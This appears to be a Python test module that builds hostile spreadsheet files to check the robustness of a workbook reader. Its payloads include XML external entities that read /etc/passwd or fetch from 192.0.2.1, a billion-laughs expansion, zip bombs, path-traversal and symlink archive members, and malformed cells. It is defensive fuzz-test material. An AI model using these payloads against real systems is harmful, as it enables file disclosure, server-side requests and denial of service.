"""Hostile workbooks, web pages and texts by the hundred, and every format under every other's name."""

from __future__ import annotations

import io
import random
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterator, Mapping
from functools import cache, partial

from tests.hostile import books
from tests.hostile.case import cases
from tests.read import biff

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_BEGIN = f'<?xml version="1.0"?><worksheet {_NS}>'
_SHEET = "xl/worksheets/sheet1.xml"
_PARTS = (
    _SHEET,
    "xl/workbook.xml",
    "xl/styles.xml",
    "[Content_Types].xml",
    "xl/_rels/workbook.xml.rels",
    "_rels/.rels",
)
_EVIL = '<!DOCTYPE x [<!ENTITY e SYSTEM "{}">]>'
_LAUGHS = "<!DOCTYPE x [<!ENTITY l0 'ha'>{}]>".format(
    "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
)


@cache
def _members() -> Mapping[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(books.good())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _book(changed: Mapping[str, bytes]) -> bytes:
    """The sound workbook with members replaced or added."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**_members(), **changed}.items():
            archive.writestr(name, data)
    return stream.getvalue()


def _headed(part: str, head: str, reference: str) -> bytes:
    """A part with a document type, and a reference to its entity in the first element."""
    text = _members()[part].decode("utf-8")
    at = text.index("?>") + 2 if text.startswith("<?xml") else 0
    body = text[at:]
    end = body.index(">") + 1
    return _book({part: f"{text[:at]}{head}{body[:end]}{reference}{body[end:]}".encode()})


def _deep(part: str) -> bytes:
    text = _members()[part].decode("utf-8")
    end = text.rindex("</")
    return _book({part: f"{text[:end]}{'<a>' * 200_000}{'</a>' * 200_000}{text[end:]}".encode()})


def _sheet(body: str) -> bytes:
    return _book({_SHEET: f"{_BEGIN}{body}</worksheet>".encode()})


def _row(cells: str, attributes: str = "") -> bytes:
    return _sheet(f"<sheetData><row{attributes}>{cells}</row></sheetData>")


_NUMBERS = (
    "1e308",
    "-1e308",
    "1e309",
    "NaN",
    "INF",
    "-INF",
    "1e999999999",
    "9" * 5000,
    "0x10",
    "1_0",
    "",
    "½",
    "１２",
    "--1",
    "1e-999999999",
    "true",
)
_ROWS = {
    "shared-far": '<c r="A1" t="s"><v>999999999</v></c>',
    "shared-negative": '<c r="A1" t="s"><v>-1</v></c>',
    "shared-word": '<c r="A1" t="s"><v>x</v></c>',
    "style-far": '<c r="A1" s="99999999"><v>1</v></c>',
    "type-unknown": '<c r="A1" t="xyz"><v>1</v></c>',
    "no-place": "<c><v>1</v></c>" * 20_000,
    "column-far": '<c r="ZZZZZZ1"><v>1</v></c>',
    "row-far": '<c r="A99999999999"><v>1</v></c>',
    "row-nought": '<c r="A0"><v>1</v></c>',
    "place-word": '<c r="hello"><v>1</v></c>',
    "place-often": '<c r="A1"><v>1</v></c>' * 50_000,
    "date-far": '<c r="A1" t="d"><v>99999-99-99</v></c>',
    "error-odd": '<c r="A1" t="e"><v>#WHAT!</v></c>',
    "formula-long": f'<c r="A1"><f>{"1+" * 400_000}1</f><v>1</v></c>',
    "formula-deep": f'<c r="A1"><f>{"(" * 200_000}</f><v>1</v></c>',
    "formula-shared": '<c r="A1"><f t="shared" si="99999"/><v>1</v></c>' * 1000,
    "text-long": f'<c r="A1" t="inlineStr"><is><t>{"长" * 1_000_000}</t></is></c>',
    "text-runs": f'<c r="A1" t="inlineStr"><is>{"<r><t>a</t></r>" * 200_000}</is></c>',
    "text-escapes": f'<c r="A1" t="inlineStr"><is><t>{"_x0000_" * 10}</t></is></c>',
    "text-half": '<c r="A1" t="inlineStr"><is><t>_xD800_</t></is></c>',
    "text-nonsense": '<c r="A1" t="inlineStr"><is><t>_xFFFF_</t></is></c>',
    "control": '<c r="A1" t="inlineStr"><is><t>&#1;</t></is></c>',
}
_SHEETS = {
    "merges-many": '<sheetData><row><c r="A1"><v>1</v></c></row></sheetData><mergeCells>{}</mergeCells>'.format(
        "".join(f'<mergeCell ref="A{n}:C{n + 1}"/>' for n in range(1, 60_000))
    ),
    "merges-over-each-other": '<sheetData><row><c r="A1"><v>1</v></c><c r="H900"><v>1</v></c></row></sheetData><mergeCells>{}</mergeCells>'.format(
        "".join(f'<mergeCell ref="A1:H{n}"/>' for n in range(1, 20_000))
    ),
    "merge-backwards": '<sheetData><row><c r="A1"><v>1</v></c></row></sheetData><mergeCells><mergeCell ref="C3:A1"/></mergeCells>',
    "merge-word": '<sheetData/><mergeCells><mergeCell ref="x"/></mergeCells>',
    "columns-hidden": '<cols><col min="1" max="99999999" hidden="1"/></cols><sheetData><row><c r="A1"><v>1</v></c></row></sheetData>',
    "columns-negative": '<cols><col min="-5" max="-1" hidden="1"/></cols><sheetData><row><c r="A1"><v>1</v></c></row></sheetData>',
    "columns-many": "<cols>%s</cols><sheetData/>" % ('<col min="1" max="16384" hidden="1"/>' * 20_000),
    "rows-empty": "<sheetData>%s</sheetData>" % ("<row/>" * 2_000_000),
    "rows-hidden": "<sheetData>{}</sheetData>".format(
        "".join(f'<row r="{n}" hidden="1"/>' for n in range(1, 300_000))
    ),
    "row-number-far": '<sheetData><row r="999999999999"><c><v>1</v></c></row></sheetData>',
    "row-number-negative": '<sheetData><row r="-9"><c><v>1</v></c></row></sheetData>',
    "row-number-word": '<sheetData><row r="x"><c><v>1</v></c></row></sheetData>',
    "height-word": '<sheetData><row r="1" ht="x"><c r="A1"><v>1</v></c></row></sheetData>',
    "attributes-many": "<sheetData><row {}/></sheetData>".format(
        " ".join(f'a{n}="1"' for n in range(200_000))
    ),
    "attribute-long": f'<sheetData a="{"a" * 5_000_000}"/>',
    "blanks": "<sheetData><row>%s</row></sheetData>" % ("<c s='1'/>" * 900_000),
    "no-end": "<sheetData><row>",
    "two-roots": "</worksheet><worksheet>",
    "comments-long": f"<!--{'x' * 20_000_000}--><sheetData/>",
    "instructions": "<?x y?>" * 500_000,
    "sections": "<![CDATA[x]]>" * 100,
    "conditions": "<sheetData/>"
    + '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1"><formula>1</formula></cfRule></conditionalFormatting>'
    * 20_000,
    "links": '<sheetData><row><c r="A1"><v>1</v></c></row></sheetData><hyperlinks>%s</hyperlinks>'
    % ('<hyperlink ref="A1" location="http://192.0.2.1/"/>' * 5_000),
    "far-corners": '<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>',
}
_TARGETS = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "http://192.0.2.1/x.xml",
    "//192.0.2.1/x",
    "file:///etc/passwd",
    "workbook.xml",
    "",
    "\\\\192.0.2.1\\x",
    "worksheets/none.xml",
    "styles.xml",
    "C:\\x.xml",
)
_FORMATS = (
    "0" * 100_000,
    '"' * 10_001,
    "[" * 20_000,
    ";" * 20_000,
    "#,##0.00" * 5_000,
    "[红色][>1]" * 5_000,
    "yyyy" * 10_000,
    "_" * 10_001,
    "\\" * 10_001,
    "?/?" * 5000,
    "0." + "0" * 5000,
    "@" * 5000,
)


def _target(target: str) -> bytes:
    part = "xl/_rels/workbook.xml.rels"
    text = _members()[part].decode("utf-8").replace("/xl/worksheets/sheet2.xml", target)
    return _book({part: text.encode()})


def _format(code: str) -> bytes:
    code = code.replace('"', "&quot;").replace(">", "&gt;")
    styles = (
        f'<?xml version="1.0"?><styleSheet {_NS}><numFmts count="1"><numFmt numFmtId="200" formatCode="{code}"/></numFmts>'
        '<fonts count="1"><font/></fonts><fills count="1"><fill/></fills><borders count="1"><border/></borders>'
        '<cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="2"><xf/><xf numFmtId="200" applyNumberFormat="1"/></cellXfs></styleSheet>'
    )
    cells = '<c r="A1" s="1"><v>1234.5</v></c><c r="B1" s="1" t="inlineStr"><is><t>x</t></is></c>'
    return _book(
        {
            "xl/styles.xml": styles.encode(),
            _SHEET: f"{_BEGIN}<sheetData><row>{cells}</row></sheetData></worksheet>".encode(),
        }
    )


def _archive(members: Mapping[str, bytes], mode: int = 0) -> bytes:
    """The sound workbook and more members, with a file mode of Unix where one is given."""
    stream = io.BytesIO(_book({}))
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # two members of one name
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            archive.writestr(info, data)
    return stream.getvalue()


def _overlapping() -> bytes:
    """A thousand entries of the directory that share one member of 1 MB: a bomb that no ratio tells."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(_SHEET, b"<a>" + random.Random(1).randbytes(1_000_000))
    data = stream.getvalue()
    start = data.index(b"PK\1\2")
    entry, end = data[start : data.index(b"PK\5\6")], data[data.index(b"PK\5\6") :]
    sizes = struct.pack("<HHHHIIH", 0, 0, 5000, 5000, len(entry) * 5000, start, 0)
    return data[:start] + entry * 5000 + end[:4] + sizes


def _lying(size: int) -> bytes:
    """A member that unpacks to 300 MB and is said to have so many bytes."""
    data = bytearray(_book({_SHEET: _BEGIN.encode() + b" " * 300_000_000}))
    for mark, at in ((b"PK\1\2", 24), (b"PK\3\4", 22)):
        place = -1
        while (place := data.find(mark, place + 1)) >= 0:
            name_at = place + (46 if mark == b"PK\1\2" else 30)
            if data[name_at : name_at + len(_SHEET)] == _SHEET.encode():
                data[place + at : place + at + 4] = struct.pack("<I", size)
    return bytes(data)


_PATHS = (
    "../../../tmp/x",
    "/etc/x",
    "C:\\x",
    "..\\..\\x",
    "xl/../../x",
    "a\0b",
    "x" * 60_000,
    "xl/worksheets/../../../x",
)


def _archives() -> Iterator[tuple[str, Callable[[], bytes]]]:
    for number, name in enumerate(_PATHS):
        yield f"path-{number}.xlsx", partial(_archive, {name: b"x"})
    yield "link.xlsx", partial(_archive, {"xl/worksheets/sheet99.xml": b"/etc/passwd"}, stat.S_IFLNK | 0o777)
    yield "device.xlsx", partial(_archive, {"xl/x": b""}, stat.S_IFCHR | 0o666)
    yield "same-name.xlsx", partial(_archive, {_SHEET: b"<worksheet/>"})
    yield "nested.xlsx", lambda: _archive({"xl/more.xlsx": _book({})})
    yield "many-members.xlsx", lambda: _archive({f"x{number}": b"" for number in range(12_000)})
    yield (
        "many-large.xlsx",
        lambda: _archive({f"x{n}": random.Random(n).randbytes(200_000) * 30 for n in range(60)}),
    )
    yield "overlapping.xlsx", _overlapping
    yield "lying-small.xlsx", partial(_lying, 10)
    yield "lying-none.xlsx", partial(_lying, 0)
    yield "comment.xlsx", lambda: _book({}) + b"PK\5\6" + b"\0" * 16 + b"\xff\xff"
    yield "encrypted.xlsx", _encrypted


def _encrypted() -> bytes:
    """The sound workbook, every member of which is said to need a password."""
    local = _book({}).replace(b"PK\3\4\x14\0\0\0", b"PK\3\4\x14\0\1\0")
    return local.replace(b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\1\0")


def _cut(whole: Callable[[], bytes], twentieths: int) -> bytes:
    return whole()[: len(whole()) * twentieths // 20]


def _mutated(whole: Callable[[], bytes], seed: int) -> bytes:
    chance = random.Random(seed)
    changed = bytearray(whole())
    for _ in range(chance.choice((1, 5, 50))):
        changed[chance.randrange(len(changed))] = chance.randrange(256)
    return bytes(changed)


@cache
def old() -> bytes:
    """A workbook of the old kind."""
    page = biff.Page(name="预算01表", merges=[(0, 0, 0, 3)])
    for row in range(200):
        page.label(row, 0, f"一般公共服务支出{row}")
        page.number(row, 1, row * 1.25)
    return biff.workbook([page])


CASES = (
    *cases(
        "entity",
        (
            (f"{n}-{kind}.xlsx", partial(_headed, part, head, reference))
            for n, part in enumerate(_PARTS)
            for kind, head, reference in (
                ("file", _EVIL.format("file:///etc/passwd"), "&e;"),
                ("net", _EVIL.format("http://192.0.2.1/x"), "&e;"),
                ("laughs", _LAUGHS, "&l9;"),
                ("parameter", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>', ""),
            )
        ),
    ),
    *cases("deep", ((f"{n}.xlsx", partial(_deep, part)) for n, part in enumerate(_PARTS))),
    *cases(
        "garbage", ((f"{n}.xlsx", partial(_book, {part: bytes(range(256))})) for n, part in enumerate(_PARTS))
    ),
    *cases(
        "number",
        (
            (f"{n}.xlsx", partial(_row, f'<c r="A1"><v>{text}</v></c><c r="B1"><v>1</v></c>'))
            for n, text in enumerate(_NUMBERS)
        ),
    ),
    *cases("cell", ((f"{name}.xlsx", partial(_row, cells)) for name, cells in _ROWS.items())),
    *cases("sheet", ((f"{name}.xlsx", partial(_sheet, body)) for name, body in _SHEETS.items())),
    *cases("target", ((f"{n}.xlsx", partial(_target, target)) for n, target in enumerate(_TARGETS))),
    *cases("format", ((f"{n}.xlsx", partial(_format, code)) for n, code in enumerate(_FORMATS))),
    *cases("archive", _archives()),
    *cases("cut", ((f"{at:02}.xlsx", partial(_cut, books.good, at)) for at in range(1, 20))),
    *cases("mutated", ((f"{seed:02}.xlsx", partial(_mutated, books.good, seed)) for seed in range(25))),
    *cases("cut", ((f"{at:02}.xls", partial(_cut, old, at)) for at in range(1, 20))),
    *cases("mutated", ((f"{seed:02}.xls", partial(_mutated, old, seed)) for seed in range(40))),
)
"""Files of which it is only asked that each ends within the limits, with a reason where it is refused."""
